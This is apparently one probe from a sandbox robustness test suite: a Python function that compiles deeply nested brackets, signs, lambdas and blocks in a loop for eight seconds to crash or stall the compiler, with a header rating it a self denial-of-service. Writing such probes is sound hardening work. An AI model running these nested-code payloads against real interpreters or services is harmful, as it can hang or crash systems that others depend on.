# title: Crash or stall the compiler with nested code
# tries: Compiles code that is nested deeply by brackets, signs, blocks and lambdas, again and again for eight seconds: the compiler is recursive, looks for no signals, and crashed on such code in several versions.
# impact: SelfDoS
# proof: returned
# host: never, it keeps a processor busy past the limit
# timeout: 0.5
# advice: Compile code only inside the sandbox, under its limits, when it is merely checked too.


def attempt(host):
    import time

    sources = [
        "(" * 90 + ")" * 90,
        "-" * 100_000 + "1",
        "(" * 100_000 + ")" * 100_000,
        "lambda: " * 5_000 + "1",
        "x = " * 100_000 + "1",
        "".join(" " * depth + "if 1:\n" for depth in range(99)) + " " * 99 + "pass",
    ]
    started = time.monotonic()
    while time.monotonic() - started < 8:
        for source in sources:
            try:
                compile(source, "nested", "exec")
            except (SyntaxError, MemoryError, RecursionError):
                pass
    return "compiled for 8 s"
